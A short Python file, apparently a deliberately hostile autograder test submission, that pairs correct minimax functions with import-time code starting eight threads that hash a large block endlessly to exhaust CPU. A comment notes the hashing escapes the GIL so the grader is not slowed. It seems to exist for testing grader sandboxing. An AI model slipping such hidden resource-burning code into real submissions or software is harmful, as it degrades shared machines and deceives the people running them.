"""Hostile: 8 threads burning CPU beside correct answers."""

import hashlib
import threading


_BLOCK = bytes(32 << 20)


def _burn():
    # Hashing a large block runs in C without the GIL: the 8 threads really burn
    # the CPU, yet leave the interpreter to the thread that answers the grader.
    while True:
        hashlib.sha256(_BLOCK).digest()


for _ in range(8):
    threading.Thread(target=_burn, daemon=True).start()


def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
